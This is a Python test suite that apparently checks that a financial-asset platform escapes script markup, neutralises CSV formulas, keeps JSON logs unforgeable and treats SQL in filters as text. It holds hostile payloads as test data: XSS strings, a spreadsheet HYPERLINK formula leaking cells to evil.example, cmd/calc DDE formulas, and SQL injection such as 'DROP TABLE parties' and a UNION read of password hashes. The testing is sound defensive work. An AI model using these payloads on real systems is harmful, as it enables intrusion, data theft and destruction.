"""What comes from outside never runs where it is shown: pages, spreadsheets, logs and queries (REQ-55, REQ-57,
REQ-58).

An issuer names itself, its emission and its documents; investors name their bank accounts; holders' names
and payment references come from outside too. Here each of them carries a payload: markup and script for
the cabinet's pages (every page that shows it is read for anything a browser would run, and must carry the
Content-Security-Policy that forbids script), a spreadsheet formula for every CSV export (each cell a
spreadsheet would run must be neutralised), control characters and line breaks for the JSON logs (each log
line must stay one JSON object on one line, and the request id be validated or replaced), and SQL for every
text filter of every list. What was tried and anything that got through is kept for the protocol (suite
`injection`).
"""

import csv
import io
import logging
import re
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import get_args

import httpx
import pytest
from jinja2 import Environment
from sqlalchemy import text

from dfa.cabinet.pages import templates
from dfa.issuance.models import Application
from dfa.issuance.service import emissions
from dfa.platform.identity.service import parties
from dfa.platform.identity.service.parties import local_today
from dfa.platform.logs import JsonFormatter
from dfa.platform.web import RequestContextMiddleware
from dfa.reconciliation.service import runs
from tests.attack.hostile import (
    Person,
    answered,
    forged_log_lines,
    formula_cells,
    markup_findings,
    path_with,
    person,
    raw_request,
    routes_of,
    tally_fixture,
)
from tests.factories import make_party
from tests.issuance.factories import make_emission
from tests.issuance.test_issuers import PDF
from tests.market import fund, onboarded_issuer
from tests.pages import BROWSER, PAGE_HEADERS, text_of
from tests.platform.test_authorization_matrix import ADMIN, ANONYMOUS, AUDITOR, COMPLIANCE, INVESTOR, admitted_caller
from tests.settlement.test_cash import new_iban

pytestmark = pytest.mark.attack

tally = tally_fixture(
    "injection",
    title="Outside text never runs as markup, formula, log line or SQL",
    requirements=["REQ-55", "REQ-57", "REQ-58"],
    method="An issuer, its emission, its documents, holders and bank accounts were given names carrying script "
    "markup, spreadsheet formulas, control characters and SQL; every cabinet page, CSV export, JSON log line and "
    "list filter that takes or shows them was read for anything that would run, and planted defects (unescaped "
    "templates, raw CSV, plain-text logs) were shown to be caught by the same checks.",
)

# Where an outsider's text lands in the cabinet, each with a payload of its own so a finding names its source.
ISSUER_NAME = '<script>alert("issuer")</script> ТОО «Қоймасы»'
EMISSION_NAME = '"><img src=x onerror=alert("emission")> {{ 7*7007 }}'
DOCUMENT_TITLE = "</th><svg onload=alert('document')>"
NO_UNDERLYING_REASON = 'javascript:alert("reason") <a href="javascript:alert(1)">claim</a>'
HOLDER_NAME = "<iframe srcdoc='<script>alert(1)</script>'></iframe>"
PAYLOADS = (ISSUER_NAME, EMISSION_NAME, DOCUMENT_TITLE, NO_UNDERLYING_REASON, HOLDER_NAME)
EVALUATED = "49049"  # what `{{ 7*7007 }}` would show had a template evaluated the name

# What a spreadsheet runs: each first character a formula may start with, and the tab and carriage return it
# strips before one.
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
FORMULA_ISSUER = "=cmd|' /C calc'!A0"
FORMULA_REFERENCE = '=HYPERLINK("http://evil.example","refund")'


@dataclass
class Market:
    """An issuer whose every name is markup, with a registered emission, an application and a document; an
    investor holding units, with a bank account named with markup and a payment with a formula for a
    reference; an issuer and holders named with formulas; and today's reconciliation report of them all."""

    issuer: Person
    investor: Person
    application_id: str
    registration_number: str
    formula_issuer: Person
    formula_emission: str
    report_id: int


@pytest.fixture(scope="module")
async def market(app, database, settings, server_url, users) -> Iterator[Market]:
    issuer = await person(database, settings, server_url, role="issuer", name=ISSUER_NAME)
    formula_issuer = await person(database, settings, server_url, role="issuer", name=FORMULA_ISSUER)
    investor = await person(database, settings, server_url, role="investor")
    async with database.unit_of_work() as session:
        await onboarded_issuer(session, issuer.party_id)
        await onboarded_issuer(session, formula_issuer.party_id)
    today = local_today(settings)
    applied = issuer.client.post("/v1/emission-applications", headers={"Idempotency-Key": str(uuid.uuid4())}, json={
        "name": EMISSION_NAME, "dfa_kind": "commodity", "nominal": 10_000, "units": 100,
        "placement_start": today.isoformat(), "placement_end": (today + timedelta(days=30)).isoformat(),
        "placement_price": 10_000, "no_underlying_reason": NO_UNDERLYING_REASON,
    })
    assert applied.status_code == 201, applied.text
    application_id = applied.json()["id"]
    filed = issuer.client.post(
        f"/v1/issuers/{issuer.party_id}/documents", headers={"Idempotency-Key": str(uuid.uuid4())},
        data={"kind": "prospectus", "title": DOCUMENT_TITLE, "application_id": application_id},
        files={"file": ("prospectus.pdf", PDF, "application/pdf")},
    )
    assert filed.status_code == 201, filed.text
    async with database.unit_of_work() as session:
        application = await session.get(Application, uuid.UUID(application_id))
        emission = await emissions.issue(session, application=application, actor="test", settings=settings)
        application.status = "registered"
        formula = await make_emission(session, issuer=await parties.get_party(session, formula_issuer.party_id))
        holders = [await make_party(session, name=name) for name in FORMULAS]
    number, formula_number = emission.registration_number, formula.registration_number
    await fund(database, settings, investor.party_id, money=1_000_000, reference=FORMULA_REFERENCE,
               units={number: 5}, issuer_id=issuer.party_id)
    for holder in holders:
        await fund(database, settings, holder.id, units={formula_number: 1}, issuer_id=formula_issuer.party_id)
    account = investor.client.post("/v1/bank-accounts", json={"iban": new_iban(), "holder_name": HOLDER_NAME},
                                   headers={"Idempotency-Key": str(uuid.uuid4())})
    assert account.status_code == 201, account.text
    result = await runs.reconcile_day(
        database, day=today, trigger="command", requested_by="test", force=True,
        counterparties=runs.Counterparties(custodian=app.state.custodian, bank=app.state.bank, mirror=None),
        keys=app.state.keys, settings=settings,
    )
    yield Market(issuer, investor, application_id, number, formula_issuer, formula_number, result.report.id)
    for client in (issuer.client, formula_issuer.client, investor.client):
        client.close()


# --- markup ------------------------------------------------------------------------------------------------


def _page_problems(page: httpx.Response) -> list[str]:
    """What a browser would run on the page, and a missing protection header."""
    found = markup_findings(page.text, PAYLOADS)
    if EVALUATED in page.text:
        found.append("a name was evaluated as a template expression")
    for name in ("content-security-policy", "x-content-type-options"):
        if page.headers.get(name) != PAGE_HEADERS[name]:
            found.append(f"{name} is {page.headers.get(name)!r}")
    return found


async def test_every_page_showing_an_outsiders_text_shows_it_as_text_under_a_policy_forbidding_script(
    market, users, tally
):
    """REQ-57, REQ-58: an issuer's name, its emission's name, its document's title, its reason for having no
    underlying asset and an investor's bank-account holder name, each carrying script markup, appear on the
    catalogue, the emission page, the portfolio, the money page, the issuer's pages and the staff's report and
    pages as the text typed, escaped; no page carries a script, an event handler or a script link, and each is
    served with the Content-Security-Policy that forbids script."""
    number, application_id = market.registration_number, market.application_id
    readings = {
        market.investor.client: ["/catalogue", f"/catalogue/{number}", "/portfolio", "/money"],
        market.issuer.client: ["/issuer/applications", f"/issuer/applications/{application_id}", "/issuer/emissions",
                               f"/issuer/emissions/{number}/holders", f"/catalogue/{number}", "/catalogue"],
        users.client(COMPLIANCE): [f"/compliance/reports/{market.report_id}", f"/catalogue/{number}",
                                   "/compliance/security-events"],
        users.client(ADMIN): ["/admin/users", "/admin/bank-lines", f"/catalogue/{number}"],
    }
    found, shown = [], set()
    for client, paths in readings.items():
        for path in paths:
            page = client.get(path, headers=BROWSER)
            if page.status_code != 200:
                found.append(f"{path}: answered {page.status_code}")
                continue
            found += [f"{path}: {p}" for p in _page_problems(page)]
            shown |= {payload for payload in PAYLOADS if payload in text_of(page)}
    found += [f"{payload!r} is shown on no page read, so nothing proves it safe" for payload in PAYLOADS
              if payload not in shown]

    tally.attack("stored markup", found, count=sum(map(len, readings.values())) * len(PAYLOADS))

    assert found == [], "\n".join(found)


REFLECTED = '"><script>alert("reflected")</script>'


async def test_markup_in_an_address_is_never_reflected_as_markup(market, users, server_url, tally):
    """REQ-58: markup put in a page's address (a path, a query, the sign-in page's `next`, the language switch)
    comes back, if at all, escaped on a page under the policy, or as JSON a browser will not render."""
    payload = REFLECTED.replace(" ", "%20")
    investor, admin = market.investor.client, users.client(ADMIN)
    with httpx.Client(base_url=server_url, timeout=30) as anonymous:
        tried = [
            (anonymous, f"/sign-in?next=/{payload}"), (anonymous, f"/sign-in?next={payload}"),
            (anonymous, f"/recovery?login={payload}"), (investor, f"/catalogue/{payload}"),
            (investor, f"/orders?status={payload}"), (investor, f"/?lang={payload}"),
            (investor, f"/statements?from={payload}&to={payload}"), (investor, f"/proofs/{payload}"),
            (admin, f"/admin/bank-lines?status={payload}"), (admin, f"/admin/users/{payload}"),
            (users.client(AUDITOR), f"/compliance/security-events?kind={payload}&actor={payload}"),
            (investor, f"/{payload}"),
        ]
        found = []
        for client, address in tried:
            answer = client.get(address, headers=BROWSER)
            kind = answer.headers.get("content-type", "")
            if kind.startswith("text/html"):
                found += [f"{address}: {p}" for p in markup_findings(answer.text, [REFLECTED])]
                found += [f"{address}: no script policy" for _ in [0]
                          if answer.headers.get("content-security-policy") != PAGE_HEADERS["content-security-policy"]]
            elif REFLECTED in answer.text and answer.headers.get("x-content-type-options") != "nosniff":
                found.append(f"{address}: reflected in {kind} a browser may sniff as a page")

    tally.attack("reflected markup", found, count=len(tried))

    assert found == [], "\n".join(found)


SNIPPET = "<h1>{{ name }}</h1><table><tr><th scope=\"row\">{{ title }}</th><td>{{ reason }}</td></tr></table>"


def test_the_markup_check_catches_a_template_rendered_without_escaping(tally):
    """REQ-58: the same check finds the script, the event handlers and the payloads in a page rendered with
    autoescape off, and nothing in the same page rendered by the cabinet's own template environment."""
    context = {"name": EMISSION_NAME, "title": DOCUMENT_TITLE, "reason": ISSUER_NAME}
    ours = templates.from_string(SNIPPET).render(**context)
    broken = Environment(autoescape=False).from_string(SNIPPET).render(**context)

    caught = markup_findings(broken, PAYLOADS)
    tally.attack("planted defects", [] if caught and not markup_findings(ours, PAYLOADS)
                 else ["the markup check missed the unescaped template"])

    assert markup_findings(ours, PAYLOADS) == []
    assert len(caught) >= 6, caught
    assert any("<script>" in finding for finding in caught)
    assert any("onerror" in finding for finding in caught) and any("onload" in finding for finding in caught)


# --- spreadsheet formulas -------------------------------------------------------------------------------------


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _export_problems(name: str, answer: httpx.Response, planted: tuple[str, ...]) -> list[str]:
    if answer.status_code != 200 or not answer.headers["content-type"].startswith("text/csv"):
        return [f"{name}: answered {answer.status_code} {answer.text[:160]}"]
    rows = _rows(answer.content)
    cells = {cell for row in rows for cell in row}
    found = [f"{name}: {p}" for p in formula_cells(rows)]
    found += [f"{name}: {value!r} is not in the export as text" for value in planted if f"'{value}" not in cells]
    return found


async def test_every_csv_export_writes_an_outsiders_formula_as_text(market, users, registry_closed_now, tally):
    """REQ-57: holders' names, an issuer's name and a payment's reference starting with = + - @, a tab or a
    carriage return are written with a leading apostrophe in every CSV export: the holders registry for the
    central depository (issuer's and staff's), the ledger's registry export, the investor's statement and the
    reconciliation report, so no spreadsheet runs them."""
    day = registry_closed_now.isoformat()
    auditor, number = users.client(AUDITOR), market.formula_emission
    exports = {
        "the depository's holders registry": (
            market.formula_issuer.client.get(f"/v1/emissions/{number}/holders-registry/export", params={"as_of": day}),
            FORMULAS),
        "the depository's holders registry read by staff": (
            auditor.get(f"/v1/emissions/{number}/holders-registry/export", params={"as_of": day}), FORMULAS),
        "the ledger's registry export": (
            auditor.get(f"/v1/ledger/assets/{number}/holders/export", params={"format": "csv"}), FORMULAS),
        "the investor's statement": (
            market.investor.client.get("/statements/download", params={"from": day, "to": day, "format": "csv"}),
            (FORMULA_REFERENCE,)),
        "the reconciliation report": (
            auditor.get(f"/v1/reconciliation/reports/{market.report_id}/export", params={"format": "csv"}),
            (FORMULA_ISSUER,)),
    }
    found = [p for name, (answer, planted) in exports.items() for p in _export_problems(name, answer, planted)]

    tally.attack("spreadsheet formulas", found, count=sum(len(planted) for _, planted in exports.values()))

    assert found == [], "\n".join(found)


def test_the_formula_check_catches_an_export_written_without_neutralising():
    """REQ-58: the same check finds every planted formula in a CSV written plainly, and none once neutralised."""
    from dfa.issuance.service.holders import neutralised

    plain, safe = io.StringIO(), io.StringIO()
    csv.writer(plain).writerows([["name", "total"], *[[f, "1"] for f in FORMULAS]])
    csv.writer(safe).writerows([["name", "total"], *[[neutralised(f), "1"] for f in FORMULAS]])

    assert len(formula_cells(_rows(plain.getvalue().encode()))) == len(FORMULAS)
    assert formula_cells(_rows(safe.getvalue().encode())) == []


# --- logs -----------------------------------------------------------------------------------------------------

# Line breaks, a forged JSON line, terminal escapes and the separators some log readers break lines at.
FORGERY = '\r\n{"level": "CRITICAL", "msg": "forged"}\n\x1b[2J\x1b[31mRED\x1b[0m\u2028\u2029\x85\x9b31m'


class _Lines(logging.Handler):
    """Every record formatted by the platform's JSON formatter, as the log file would get it."""

    def __init__(self) -> None:
        super().__init__(level=logging.DEBUG)
        self.setFormatter(JsonFormatter())
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))


@pytest.fixture
def log_lines() -> Iterator[list[str]]:
    handler = _Lines()
    root = logging.getLogger()
    root.addHandler(handler)
    try:
        yield handler.lines
    finally:
        root.removeHandler(handler)


def _raw(method: str, path: str, headers: dict[str, bytes], body: bytes = b"") -> bytes:
    lines = [f"{method} {path} HTTP/1.1".encode(), b"Host: 127.0.0.1", b"Connection: close",
             f"Content-Length: {len(body)}".encode()]
    lines += [name.encode() + b": " + value for name, value in headers.items()]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


async def test_control_characters_from_outside_never_forge_a_log_line(
    market, users, server_url, database, log_lines, long_form, tally
):
    """REQ-55: CR/LF, a JSON line of the attacker's, terminal escapes and Unicode line separators in a login, a
    password, a body field, a path, an Idempotency-Key, an X-Request-ID and a User-Agent leave every JSON log
    line one object on one line with no raw control character; an X-Request-ID that is not a plain token is
    replaced by one of the platform's. The long form also sends every control character on its own."""
    quoted = "".join(f"%{b:02X}" for b in FORGERY.encode())
    utf8 = FORGERY.encode()
    admin = users.client(ADMIN)
    with httpx.Client(base_url=server_url, timeout=30) as anonymous:
        anonymous.post("/v1/auth/sign-in", json={"login": "evil" + FORGERY, "password": FORGERY})
        anonymous.post("/sign-in", data={"login": "evil" + FORGERY, "password": FORGERY})
        anonymous.get(f"/v1/me{quoted}")
        anonymous.get(f"/catalogue/{quoted}", headers=BROWSER)
        replaced = anonymous.get("/healthz", headers={"X-Request-ID": "a b<script>"})
        singles = [chr(c) for c in (*range(0x20), 0x7F, *range(0x80, 0xA0), 0x2028, 0x2029)] if long_form else []
        dropped = []
        for single in singles:
            for answer in (
                answered(anonymous, "GET", "/v1/me" + "".join(f"%{b:02X}" for b in f"x{single}y".encode())),
                answered(anonymous, "POST", "/v1/auth/sign-in", json={"login": f"evil{single}line", "password": "x"}),
                answered(anonymous, "POST", "/sign-in", data={"login": f"evil{single}line", "password": "x"}),
            ):
                if answer.status_code >= 500:
                    dropped.append(f"U+{ord(single):04X}: {answer.request.url.path if answer.status_code < 599 else ''}"
                                   f" answered {answer.status_code}")
    admin.post("/v1/parties", headers={"Idempotency-Key": str(uuid.uuid4())},
               json={"kind": "person", "name": "Evil" + FORGERY, "identifier": "900101300001", "resident": True})
    raw = [
        raw_request(server_url, _raw("GET", "/healthz", {"User-Agent": b"evil" + utf8.replace(b"\r\n", b" ")})),
        raw_request(server_url, _raw("GET", "/healthz", {"X-Request-ID": b"id\x1b[31m" + utf8.replace(b"\r\n", b"")})),
        raw_request(server_url, _raw("POST", "/v1/parties", {
            "Cookie": admin.headers["Cookie"].encode(), "X-CSRF-Token": admin.headers["X-CSRF-Token"].encode(),
            "Idempotency-Key": b"key" + utf8.replace(b"\r\n", b""), "Content-Type": b"application/json",
        }, b"{}")),
        raw_request(server_url, _raw("GET", "/v1/me" + quoted.replace("%0D%0A", "%0A"), {})),
    ]
    found = forged_log_lines(log_lines)
    found += [] if re.fullmatch(r"[0-9a-f]{32}", replaced.headers["x-request-id"]) else [
        f"the request id 'a b<script>' came back as {replaced.headers['x-request-id']!r}"]
    found += [f"a raw request was answered {status}" for status, _ in raw if status >= 500] + dropped
    if not any('"path": "/v1/me' in line for line in log_lines):
        found.append("no request line was logged, so nothing was checked")

    tally.attack("log injection", found, count=8 + len(raw) + 3 * len(singles))

    assert found == [], "\n".join(found[:20])


@pytest.mark.parametrize("offered", [
    b"abc\n", b"abc\r\nSet-Cookie: dfa_session=x", b"\x1b[31mred", b"a" * 101, "id\u2028x".encode(), b"",
])
async def test_a_request_id_that_is_not_a_plain_token_is_replaced_before_it_is_logged_or_echoed(offered, tally):
    """REQ-55: the request id the platform logs and echoes is the client's only when it is 1 to 100 letters,
    digits and `._:-`; anything else (a trailing line break included) is replaced by a random one."""
    sent: list[dict] = []

    async def answer(scope, receive, send) -> None:
        await send({"type": "http.response.start", "status": 204, "headers": []})
        await send({"type": "http.response.body", "body": b""})

    async def receive() -> dict:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: dict) -> None:
        sent.append(message)

    scope = {"type": "http", "method": "GET", "path": "/", "headers": [(b"x-request-id", offered)],
             "client": ("127.0.0.1", 1), "query_string": b""}
    await RequestContextMiddleware(answer, max_body_bytes=100)(scope, receive, send)
    echoed = dict(sent[0]["headers"])[b"x-request-id"].decode("latin-1")

    found = [] if re.fullmatch(r"[0-9a-f]{32}", echoed) else [f"{offered!r} was kept as the request id {echoed!r}"]
    tally.attack("log injection", found)

    assert found == []


def test_the_log_check_catches_a_formatter_that_writes_what_it_is_given():
    """REQ-58: the same check finds the forged lines a plain-text formatter lets through, and none in the
    platform's JSON lines of the same record."""
    record = logging.makeLogRecord({"msg": "sign-in failed for %s", "args": ("evil" + FORGERY,), "levelno": 20,
                                    "levelname": "INFO", "name": "dfa.test"})
    plain = logging.Formatter("%(levelname)s %(message)s").format(record)

    assert forged_log_lines([plain]) != []
    assert forged_log_lines([JsonFormatter().format(record)]) == []


# --- SQL --------------------------------------------------------------------------------------------------------

SQL = ("' OR '1'='1", "1; DROP TABLE parties; --", "x' UNION SELECT password_hash FROM users --", "\\", "%' --",
       "'||pg_sleep(5)||'", "nul\x00byte")


async def test_sql_in_every_text_filter_of_every_list_is_only_ever_text(app, users, server_url, database, tally):
    """REQ-58: SQL in every text query parameter of every GET route (filters, searches, codes) is read as a value:
    never a server error, never a slow query, no row changed."""
    found, sent = [], 0
    with httpx.Client(base_url=server_url, timeout=30) as anonymous:
        async with tally.watching(database) as watch:
            for route in (r for r in routes_of(app) if r.method == "GET"):
                texts = [name for name, annotation in route.query_params.items()
                         if str in (annotation, *get_args(annotation))]
                caller = admitted_caller(route.key)
                client = anonymous if caller == ANONYMOUS else users.client(caller)
                for name in texts:
                    for value in SQL:
                        started = datetime.now(UTC)
                        answer = answered(client, "GET", path_with(route), params={name: value})
                        sent += 1
                        took = (datetime.now(UTC) - started).total_seconds()
                        if answer.status_code >= 500 or took > 4:
                            found.append(f"{route.path}?{name}={value!r}: {answer.status_code} in {took:.1f} s")
    found += watch.written

    tally.attack("sql in filters", found, count=sent)

    assert sent > 50
    assert found == [], "\n".join(found)


async def test_the_platform_still_answers_and_its_tables_stand(database, users):
    """After all of it, the tables an injection would have dropped are there and the platform answers."""
    async with database.engine.connect() as connection:
        parties_left = (await connection.execute(text("SELECT count(*) FROM parties"))).scalar_one()

    assert parties_left > 0
    assert users.client(INVESTOR).get("/v1/me").status_code == 200
